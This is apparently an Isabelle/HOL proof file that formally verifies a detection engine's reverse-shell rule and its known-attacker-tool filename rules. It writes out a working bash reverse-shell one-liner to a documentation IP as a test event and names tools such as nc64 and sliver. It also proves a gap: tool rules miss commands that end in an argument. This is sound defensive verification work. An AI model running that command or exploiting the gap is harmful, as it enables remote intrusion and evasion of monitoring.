(* ===== verification/Rule_Matches.thy ===== *)
theory Rule_Matches
  imports Rule_Patterns
begin

text \<open>
  What single rules recognise, as texts: the reverse shell over \<^verbatim>\<open>/dev/tcp\<close> and the names of known
  attacker tools.
\<close>

section \<open>A shell over a network device\<close>

definition word :: "string \<Rightarrow> rx" where
  "word s = sequence (map letter s)"

definition blanks_rx :: rx where
  "blanks_rx = Rep 0 None (Cls True False [(9, 10), (12, 13), (32, 32)])"

definition shell_rx :: rx where
  "shell_rx = Or (word ''bash'') (Or (word ''sh'') (Or (word ''zsh'') (Or (word ''dash'') (word ''ksh''))))"

definition protocol_rx :: rx where
  "protocol_rx = Or (word ''tcp'') (word ''udp'')"

definition device_rx :: rx where
  "device_rx = Or (sequence (map letter ''/dev/'' @ protocol_rx # map letter ''/''))
     (sequence (map letter ''>&'' @ blanks_rx # map letter ''/dev/'' @ [protocol_rx]))"

definition devtcp_rx :: rx where
  "devtcp_rx = sequence (shell_rx # gap 60 # map letter ''-i'' @ [gap 60, device_rx])"

lemma devtcp_parse: "parse_rx (rd_pattern (hd reverse_shell_rules)) = Some devtcp_rx"
  by code_simp

lemma devtcp_plain: "plain devtcp_rx"
  by (simp add: devtcp_rx_def shell_rx_def device_rx_def protocol_rx_def blanks_rx_def gap_def word_def
    sequence_simps letter_def)

text \<open>The same as a predicate on texts.\<close>

definition go_space :: "char \<Rightarrow> bool" where
  "go_space c \<longleftrightarrow> (of_char c :: nat) \<in> {9, 10, 12, 13, 32}"

definition network_device :: "string \<Rightarrow> bool" where
  "network_device t \<longleftrightarrow> go_to_lower t \<in> {''/dev/tcp/'', ''/dev/udp/''} \<or>
     (\<exists>s d. t = ''>&'' @ s @ d \<and> list_all go_space s \<and> go_to_lower d \<in> {''/dev/tcp'', ''/dev/udp''})"

definition shell_name :: "string \<Rightarrow> bool" where
  "shell_name s \<longleftrightarrow> go_to_lower s \<in> {''bash'', ''sh'', ''zsh'', ''dash'', ''ksh''}"

definition shell_over_device :: "string \<Rightarrow> bool" where
  "shell_over_device h \<longleftrightarrow> (\<exists>pre sh a opt b dev post. h = pre @ sh @ a @ opt @ b @ dev @ post \<and>
     shell_name sh \<and> go_to_lower opt = ''-i'' \<and>
     length a \<le> 60 \<and> newline \<notin> set a \<and> length b \<le> 60 \<and> newline \<notin> set b \<and> network_device dev)"

lemma lower_words:
  "go_to_lower ''bash'' = ''bash''" "go_to_lower ''sh'' = ''sh''" "go_to_lower ''zsh'' = ''zsh''"
  "go_to_lower ''dash'' = ''dash''" "go_to_lower ''ksh'' = ''ksh''" "go_to_lower ''tcp'' = ''tcp''"
  "go_to_lower ''udp'' = ''udp''" "go_to_lower ''-i'' = ''-i''" "go_to_lower ''/dev/'' = ''/dev/''"
  "go_to_lower ''/'' = ''/''" "go_to_lower ''>&'' = ''>&''"
  by code_simp+

lemma lower_append: "go_to_lower (s @ t) = go_to_lower s @ go_to_lower t"
  by (simp add: go_to_lower_def)

lemma word_is: "lang (word s) = {u. go_to_lower u = go_to_lower s}"
  by (simp add: word_def word_lang)

text \<open>A text in lower case that is a concatenation comes from one.\<close>

lemma lower_split: "go_to_lower u = s @ t \<longleftrightarrow> (\<exists>v w. u = v @ w \<and> go_to_lower v = s \<and> go_to_lower w = t)"
  unfolding go_to_lower_def map_eq_append_conv by blast

lemma sequence_then_lang: "lang (sequence (r # rs)) = {u @ v | u v. u \<in> lang r \<and> v \<in> lang (sequence rs)}"
  by (rule sequence_lang)

lemma blanks_lang: "lang blanks_rx = {s. list_all go_space s}"
proof -
  have "cls_match True False [(9, 10), (12, 13), (32, 32)] c \<longleftrightarrow> go_space c" for c
  proof -
    define v where "v = (of_char c :: nat)"
    have "go_space c \<longleftrightarrow> 9 \<le> v \<and> v \<le> 10 \<or> 12 \<le> v \<and> v \<le> 13 \<or> v = 32"
      unfolding go_space_def v_def [symmetric] by auto
    moreover have "in_ranges [(9, 10), (12, 13), (32, 32)] (other_case (int v)) \<Longrightarrow>
        in_ranges [(9, 10), (12, 13), (32, 32)] (int v)"
      by (auto simp: other_case_def split: if_splits)
    ultimately show ?thesis
      unfolding cls_match_def int_of_char v_def [symmetric] by auto
  qed
  then have "cls_match True False [(9, 10), (12, 13), (32, 32)] = go_space" by blast
  with concat_singletons [of "\<lambda>_. True" go_space] show ?thesis
    by (simp add: blanks_rx_def)
qed

lemma lower_fixed:
  "go_to_lower u = ''>&'' \<longleftrightarrow> u = ''>&''"
proof -
  have "lower_char c = CHR ''>'' \<longleftrightarrow> c = CHR ''>''" "lower_char c = CHR ''&'' \<longleftrightarrow> c = CHR ''&''" for c
  proof -
    have "lower_char c = CHR ''>'' \<longleftrightarrow> (of_char (lower_char c) :: nat) = 62"
      "lower_char c = CHR ''&'' \<longleftrightarrow> (of_char (lower_char c) :: nat) = 38"
      "c = CHR ''>'' \<longleftrightarrow> (of_char c :: nat) = 62" "c = CHR ''&'' \<longleftrightarrow> (of_char c :: nat) = 38"
      by (simp_all flip: of_char_eq_iff [where 'a = nat])
    then show "lower_char c = CHR ''>'' \<longleftrightarrow> c = CHR ''>''" "lower_char c = CHR ''&'' \<longleftrightarrow> c = CHR ''&''"
      unfolding of_char_lower by auto
  qed
  then show ?thesis by (simp add: go_to_lower_def map_eq_Cons_conv)
qed

lemma conc_two:
  "{u @ v | u v. u = a \<and> v \<in> {s @ d | s d. s \<in> {s. P s} \<and> d \<in> {d. Q d}}} = {t. \<exists>s d. t = a @ s @ d \<and> P s \<and> Q d}"
  by blast

lemma conc_four:
  "{u @ v | u v. u \<in> {s. P s} \<and> v \<in> {u @ v | u v. u \<in> {a. A1 a \<and> A2 a} \<and>
      v \<in> {u @ v | u v. O' u \<and> v \<in> {b @ d | b d. B1 b \<and> B2 b \<and> D d}}}} =
    {s @ a @ u @ b @ d | s a u b d. P s \<and> O' u \<and> A1 a \<and> A2 a \<and> B1 b \<and> B2 b \<and> D d}"
  by blast

lemma conc_context:
  "(\<exists>p u q. h = p @ u @ q \<and> u \<in> {s @ a @ x @ b @ d | s a x b d. R s a x b d}) \<longleftrightarrow>
    (\<exists>p s a x b d q. h = p @ s @ a @ x @ b @ d @ q \<and> R s a x b d)"
proof
  assume "\<exists>p s a x b d q. h = p @ s @ a @ x @ b @ d @ q \<and> R s a x b d"
  then obtain p s a x b d q where "h = p @ (s @ a @ x @ b @ d) @ q" "R s a x b d" by auto
  then show "\<exists>p u q. h = p @ u @ q \<and> u \<in> {s @ a @ x @ b @ d | s a x b d. R s a x b d}" by blast
qed fastforce

lemma device_lang: "lang device_rx = {t. network_device t}"
proof -
  have proto: "lang protocol_rx = {u. go_to_lower u \<in> {''tcp'', ''udp''}}"
    by (auto simp: protocol_rx_def word_is lower_words)
  have end_slash: "lang (sequence (protocol_rx # map letter ''/'')) = {u. go_to_lower u \<in> {''tcp/'', ''udp/''}}"
    unfolding sequence_then_lang word_lang proto lower_words
    using lower_split [of _ "''tcp''" "''/''"] lower_split [of _ "''udp''" "''/''"] by auto
  have "lang (sequence (map letter ''/dev/'' @ protocol_rx # map letter ''/'')) =
      {t. go_to_lower t \<in> {''/dev/tcp/'', ''/dev/udp/''}}"
    unfolding word_then_lang end_slash lower_words
    using lower_split [of _ "''/dev/''" "''tcp/''"] lower_split [of _ "''/dev/''" "''udp/''"] by auto
  moreover have dev: "lang (sequence (map letter ''/dev/'' @ [protocol_rx])) = {d. go_to_lower d \<in> {''/dev/tcp'', ''/dev/udp''}}"
    unfolding word_then_lang sequence_then_lang sequence_lang(1) proto lower_words
    using lower_split [of _ "''/dev/''" "''tcp''"] lower_split [of _ "''/dev/''" "''udp''"] by auto
  have "lang (sequence (map letter ''>&'' @ blanks_rx # map letter ''/dev/'' @ [protocol_rx])) =
      {t. \<exists>s d. t = ''>&'' @ s @ d \<and> list_all go_space s \<and> go_to_lower d \<in> {''/dev/tcp'', ''/dev/udp''}}"
    unfolding word_then_lang [of "''>&''"] sequence_then_lang [of blanks_rx] blanks_lang dev lower_words lower_fixed
    by (rule conc_two)
  ultimately show ?thesis
    by (simp add: device_rx_def network_device_def Un_def)
qed

lemma devtcp_lang: "rx_matches devtcp_rx h \<longleftrightarrow> shell_over_device h"
proof -
  have shells: "lang shell_rx = {u. shell_name u}"
    by (auto simp: shell_rx_def shell_name_def word_is lower_words)
  have end_lang: "lang (sequence [gap 60, device_rx]) = {b @ dev | b dev. length b \<le> 60 \<and> newline \<notin> set b \<and> network_device dev}"
    unfolding sequence_then_lang sequence_lang(1) gap_lang device_lang by auto
  have "lang devtcp_rx = {sh @ a @ opt @ b @ dev | sh a opt b dev.
      shell_name sh \<and> go_to_lower opt = ''-i'' \<and>
      length a \<le> 60 \<and> newline \<notin> set a \<and> length b \<le> 60 \<and> newline \<notin> set b \<and> network_device dev}"
    unfolding devtcp_rx_def sequence_then_lang [of shell_rx] sequence_then_lang [of "gap 60" "map letter s @ q" for s q]
      word_then_lang [of "''-i''"] end_lang gap_lang shells lower_words
    by (simp only: conc_four nat_numeral)
  then show ?thesis
    unfolding rx_matches_lang [OF devtcp_plain] shell_over_device_def by (simp only: conc_context)
qed

lemma shell_over_deviceI:
  assumes "h = pre @ sh @ a @ opt @ b @ dev @ post" "shell_name sh" "go_to_lower opt = ''-i''"
    "length a \<le> 60" "newline \<notin> set a" "length b \<le> 60" "newline \<notin> set b" "network_device dev"
  shows "shell_over_device h"
  using assms unfolding shell_over_device_def by blast

lemma devtcp_rule: "hd reverse_shell_rules \<in> set builtinRules"
  by (simp add: builtinRules_def reverse_shell_rules_def)

lemma devtcp_loaded:
  assumes "agrees compile (rd_pattern (hd reverse_shell_rules))" and "NewEngine compile builtinRules cfg = Some e"
    and "''rshell-devtcp'' \<notin> set (cf_disabled cfg)"
  shows "\<exists>r \<in> set (en_rules e). r_id r = ''rshell-devtcp'' \<and> r_category r = [] \<and> r_target r = TargetProcess \<and>
    r_severity r = Critical \<and> (\<forall>h. ascii h \<longrightarrow> (r_matches r h \<longleftrightarrow> shell_over_device h))"
proof -
  let ?d = "hd reverse_shell_rules"
  have d: "rd_id ?d = ''rshell-devtcp''" "rd_category ?d = []" "rd_target ?d = TargetProcess" "rd_severity ?d = Critical"
    by (simp_all add: reverse_shell_rules_def)
  obtain r where r: "r \<in> set (en_rules e)" "r_id r = ''rshell-devtcp''" "r_category r = []" "r_target r = TargetProcess"
    "compile (rd_pattern ?d) = Some (r_matches r)" "r_severity r = Critical"
    using NewEngine_builtin [OF assms(2) devtcp_rule] assms(3) unfolding d by blast
  have "r_matches r h \<longleftrightarrow> shell_over_device h" if "ascii h" for h
    using agrees_matches [OF assms(1) r(5) devtcp_parse that] devtcp_lang [of h] unfolding rx_matches_iff by blast
  with r show ?thesis by blast
qed

lemma reverse_shell_critical:
  assumes "agrees compile (rd_pattern (hd reverse_shell_rules))" and "NewEngine compile builtinRules cfg = Some e"
    and "''rshell-devtcp'' \<notin> set (cf_disabled cfg)"
    and ev: "e_category ev = CatProcess" "ascii (snd (examined ev))" "shell_over_device (snd (examined ev))"
  shows "\<exists>ev'. fst (Evaluate e ev) = [ev'] \<and> observed ev' = observed ev \<and> e_severity ev' = Critical"
proof -
  obtain r where r: "r \<in> set (en_rules e)" "r_category r = []" "r_target r = TargetProcess" "r_severity r = Critical"
    "\<And>h. ascii h \<Longrightarrow> r_matches r h \<longleftrightarrow> shell_over_device h"
    using devtcp_loaded [OF assms(1-3)] by blast
  have x: "examined ev = (TargetProcess, snd (examined ev))" using ev(1) by (simp add: examined_def)
  have "snd (examined ev) \<noteq> []"
    using ev(3) unfolding shell_over_device_def shell_name_def by (auto simp: go_to_lower_def)
  moreover have "applies ev TargetProcess (snd (examined ev)) r"
    using r(2,3,5) ev(2,3) by (simp add: applies_def)
  ultimately have "e_severity (handled e ev) = Critical"
    using rule_raises [OF _ x _ r(1)] ev(1) r(4) severity_top by simp
  moreover have "correlated e ev = ([], e)" using ev(1) by (simp add: correlated_def categories)
  ultimately show ?thesis
    using observed_handled [of e ev] by (simp add: Evaluate_eq severity_order)
qed

text \<open>The rule of a known tool.\<close>

lemma file_rule_matches:
  assumes "ascii name" "file_rule compile name = Some r" "agrees compile (file_pattern name)" "ascii h"
  shows "r_matches r h \<longleftrightarrow> bad_file_matches name h"
proof -
  have "compile (file_pattern name) = Some (r_matches r)"
    using assms(2) by (auto simp: file_rule_def)
  from agrees_matches [OF assms(3) this file_pattern_parse [OF assms(1)] assms(4)]
  show ?thesis using file_rx_matches [of name h] unfolding rx_matches_iff by simp
qed

lemma file_rule_modelled: "ascii name \<Longrightarrow> \<exists>r. file_rule modelled_regexp name = Some r"
  by (simp add: file_rule_def modelled_regexp_def file_pattern_parse)

section \<open>Properties\<close>

text \<open>
  C15 (equivalence). What the rule \<^verbatim>\<open>rshell-devtcp\<close> recognises: in an ASCII text, a shell's name, an
  option \<^verbatim>\<open>-i\<close> and a network device, in any letter case, each at most sixty characters after the
  one before and on the same line; nothing else. A process event whose executable and command
  line have that comes out of the engine as Critical. (Where \<^verbatim>\<open>regexp.Compile\<close> agrees with the
  model on the pattern of this rule.)
\<close>

theorem reverse_shell_is_critical:
  assumes "agrees compile (rd_pattern (hd reverse_shell_rules))" and "NewEngine compile builtinRules cfg = Some e"
    and "''rshell-devtcp'' \<notin> set (cf_disabled cfg)"
  shows "\<exists>r \<in> set (en_rules e). r_id r = ''rshell-devtcp'' \<and>
    (\<forall>h. ascii h \<longrightarrow> (r_matches r h \<longleftrightarrow> shell_over_device h)) \<and>
    (\<forall>ev. e_category ev = CatProcess \<and> ascii (snd (examined ev)) \<and> shell_over_device (snd (examined ev)) \<longrightarrow>
       (\<exists>ev'. fst (Evaluate e ev) = [ev'] \<and> observed ev' = observed ev \<and> e_severity ev' = Critical))"
  using devtcp_loaded [OF assms] reverse_shell_critical [OF assms] by blast

definition bash_event :: event where
  "bash_event = empty_event\<lparr>e_category := CatProcess,
     e_fields := Some [''exe'' \<mapsto> ''/usr/bin/bash'', ''cmdline'' \<mapsto> ''bash -i >& /dev/tcp/203.0.113.9/443 0>&1'']\<rparr>"

lemma bash_text:
  "snd (examined bash_event) = ''/usr/bin/bash bash -i >& /dev/tcp/203.0.113.9/443 0>&1''"
  by (simp add: bash_event_def examined_def field_of_def go_trim_space_def is_space_def)

theorem reverse_shell_is_critical_witness:
  "\<exists>cfg e ev'. Default False = Some cfg \<and> NewEngine modelled_regexp builtinRules cfg = Some e \<and>
    fst (Evaluate e bash_event) = [ev'] \<and> e_severity ev' = Critical"
proof -
  obtain cfg e where e: "Default False = Some cfg" "NewEngine modelled_regexp builtinRules cfg = Some e"
    "cf_disabled cfg = []"
    using default_engine .
  have no_newline: "newline \<noteq> CHR '' ''" "newline \<noteq> CHR ''>''" "newline \<noteq> CHR ''&''"
    and dev: "go_to_lower ''/dev/tcp/'' = ''/dev/tcp/''"
    by code_simp+
  have "shell_over_device (snd (examined bash_event))"
    unfolding bash_text
    by (rule shell_over_deviceI [of _ "''/usr/bin/bash ''" "''bash''" "'' ''" "''-i''" "'' >& ''" "''/dev/tcp/''"
          "''203.0.113.9/443 0>&1''"])
      (simp_all add: shell_name_def lower_words network_device_def no_newline dev)
  moreover have "ascii (snd (examined bash_event))"
    unfolding bash_text by simp
  moreover have "e_category bash_event = CatProcess"
    by (simp add: bash_event_def)
  ultimately show ?thesis
    using reverse_shell_is_critical [OF modelled_regexp e(2)] e by fastforce
qed

text \<open>
  C16 (equivalence). The pattern that is put together for the name of a known tool is in the
  modelled syntax, for a name in ASCII. Where \<^verbatim>\<open>regexp.Compile\<close> accepts it and agrees with the model
  on it, the rule matches an ASCII text exactly if the text, or what follows some slash or
  backslash in it, is the name, in any letter case, with at most a short extension.
\<close>

theorem known_tool_recognised:
  assumes "ascii name" and "file_rule compile name = Some r" and "agrees compile (file_pattern name)"
  shows "parse_rx (file_pattern name) \<noteq> None \<and> (\<forall>h. ascii h \<longrightarrow> (r_matches r h \<longleftrightarrow>
    (\<exists>pre base ext. h = pre @ base @ ext \<and> (pre = [] \<or> separator (last pre)) \<and>
       go_to_lower base = go_to_lower name \<and> short_extension ext)))"
  using file_rule_matches [OF assms] file_pattern_parse [OF assms(1)] unfolding bad_file_spec [symmetric] by simp

theorem known_tool_recognised_witness:
  "\<exists>r. file_rule modelled_regexp ''nc64'' = Some r \<and> r_matches r ''C:/Users/Public/NC64.exe''"
proof -
  have e: "short_extension ''.exe''" "go_to_lower ''NC64'' = go_to_lower ''nc64''" "ascii ''nc64''"
    "ascii ''C:/Users/Public/NC64.exe''" "separator CHR ''/''"
    by code_simp+
  obtain r where r: "file_rule modelled_regexp ''nc64'' = Some r"
    using file_rule_modelled [OF e(3)] by blast
  have "r_matches r h \<longleftrightarrow> (\<exists>pre base ext. h = pre @ base @ ext \<and>
       (pre = [] \<or> separator (last pre)) \<and> go_to_lower base = go_to_lower ''nc64'' \<and> short_extension ext)" if "ascii h" for h
    using known_tool_recognised [OF e(3) r modelled_regexp] that by blast
  then have "r_matches r ''C:/Users/Public/NC64.exe''"
    using e by (simp, intro exI [of _ "''C:/Users/Public/''"] exI [of _ "''NC64''"] exI [of _ "''.exe''"], simp)
  with r(1) show ?thesis by blast
qed

text \<open>
  The rules for known attacker tools are meant for the base name of a process'
  executable, but are matched against executable and command line in one text and anchored
  at its end: with a last argument that has no slash, no tool name without a blank matches,
  whatever was executed. Without arguments the tool is found.
\<close>

theorem known_tool_with_argument_missed:
  assumes "ascii name" and "file_rule compile name = Some r" and "agrees compile (file_pattern name)"
    and "ascii cmd" and "ascii w" and "CHR '' '' \<notin> set name" and "list_all (\<lambda>c. c \<noteq> CHR '' '' \<and> \<not> separator c) w"
  shows "\<not> r_matches r (cmd @ '' '' @ w) \<and> r_matches r (cmd @ ''/'' @ name)"
proof -
  have "bad_file_matches name (cmd @ ''/'' @ name)"
    unfolding bad_file_spec
    by (intro exI [of _ "cmd @ ''/''"] exI [of _ name] exI [of _ "[]"]) (simp add: separator_def short_extension_def)
  with bad_file_last_word [OF assms(6,7)] show ?thesis
    using assms(1,4,5) by (simp add: file_rule_matches [OF assms(1-3)])
qed

theorem known_tool_with_argument_missed_witness:
  "\<exists>r. file_rule modelled_regexp ''sliver'' = Some r \<and>
     \<not> r_matches r ''/opt/sliver /opt/sliver --mtls'' \<and> r_matches r ''/opt/sliver /opt/sliver''"
proof -
  have n: "ascii ''sliver''" by code_simp
  obtain r where r: "file_rule modelled_regexp ''sliver'' = Some r"
    using file_rule_modelled [OF n] by blast
  have "ascii ''--mtls''" "ascii ''/opt/sliver /opt/sliver''" "ascii ''/opt/sliver /opt''" by code_simp+
  with known_tool_with_argument_missed [OF n r modelled_regexp, of "''/opt/sliver /opt/sliver''" "''--mtls''"]
    known_tool_with_argument_missed [OF n r modelled_regexp, of "''/opt/sliver /opt''" "''--mtls''"]
  show ?thesis using r by (simp add: separator_def)
qed

end
